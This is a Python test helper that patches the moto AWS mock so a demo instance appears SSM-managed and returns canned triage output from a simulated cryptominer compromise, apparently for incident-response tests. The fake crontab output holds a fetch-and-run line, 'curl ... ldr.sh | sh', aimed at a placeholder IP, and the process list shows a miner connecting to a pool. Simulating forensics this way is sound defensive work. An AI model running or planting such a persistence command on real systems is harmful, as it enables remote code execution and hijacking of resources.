"""The demo instance's SSM agent. moto knows SSM commands but no agents: this teaches it
that the compromised instance is managed and what the triage commands print on it (a
cryptominer started from /tmp by cron, talking to a pool)."""

from __future__ import annotations

import contextlib
from collections.abc import Iterator
from typing import Any

from moto.core.responses import ActionResult
from moto.ssm.models import Command
from moto.ssm.responses import SimpleSystemManagerResponse

_OUTPUT = {
    "netstat -tlnp": "tcp  0 0 0.0.0.0:22    0.0.0.0:*  LISTEN  812/sshd\n"
                     "tcp  0 0 0.0.0.0:443   0.0.0.0:*  LISTEN  990/nginx\n"
                     "tcp  0 0 127.0.0.1:3333 0.0.0.0:* LISTEN  4242/kdevtmpfsi",
    "ss -tlnp": "LISTEN 0 128 0.0.0.0:22 0.0.0.0:* users:((\"sshd\",pid=812,fd=3))\n"
                "LISTEN 0 511 0.0.0.0:443 0.0.0.0:* users:((\"nginx\",pid=990,fd=6))\n"
                "LISTEN 0 128 127.0.0.1:3333 0.0.0.0:* users:((\"kdevtmpfsi\",pid=4242,fd=9))",
    "cat /etc/crontab": "*/5 * * * * root curl -fsSL http://198.51.100.23/ldr.sh | sh",
    "ls -la /tmp": "-rwxr-xr-x 1 www-data www-data 2342912 Dec  3 08:12 kdevtmpfsi\n"
                   "-rw-r--r-- 1 www-data www-data     412 Dec  3 08:12 config.json",
    "ss -tunap": "ESTAB 0 0 10.40.1.4:48812 203.0.113.200:3333 "
                 "users:((\"kdevtmpfsi\",pid=4242,fd=12))",
    "ps auxf": "root       812  sshd: /usr/sbin/sshd -D\n"
               "www-data   990  nginx: worker process\n"
               "www-data  4242  /tmp/kdevtmpfsi --url pool.minexmr.example:3333 --donate 0",
    "last -n 20": "ubuntu   pts/0  203.0.113.77  Thu Dec  3 08:05 - 08:40  (00:35)",
}


def _triage_text() -> str:
    from aws.ssm import TRIAGE_COMMANDS

    parts = []
    for command in TRIAGE_COMMANDS:
        parts.append(f"### {command.replace(chr(39), '')}")
        parts.append(_OUTPUT.get(command, ""))
    return "\n".join(parts) + "\n"


@contextlib.contextmanager
def ssm_agent_on(instance_id: str) -> Iterator[None]:
    """While active, moto reports `instance_id` as SSM-managed and its triage output."""

    def describe_instance_information(self: SimpleSystemManagerResponse) -> ActionResult:
        return ActionResult({"InstanceInformationList": [{
            "InstanceId": instance_id, "PingStatus": "Online", "PlatformType": "Linux",
            "PlatformName": "Amazon Linux", "AgentVersion": "3.3.0.0"}]})

    original = Command.invocation_response

    def invocation_response(self: Command, instance: str, plugin: str) -> dict[str, Any]:
        answer = dict(original(self, instance, plugin))
        if instance == instance_id:
            answer["StandardOutputContent"] = _triage_text()
        return answer

    setattr(SimpleSystemManagerResponse, "describe_instance_information",  # noqa: B010
            describe_instance_information)
    Command.invocation_response = invocation_response  # type: ignore[method-assign,assignment]
    try:
        yield
    finally:
        delattr(SimpleSystemManagerResponse, "describe_instance_information")
        Command.invocation_response = original  # type: ignore[method-assign]
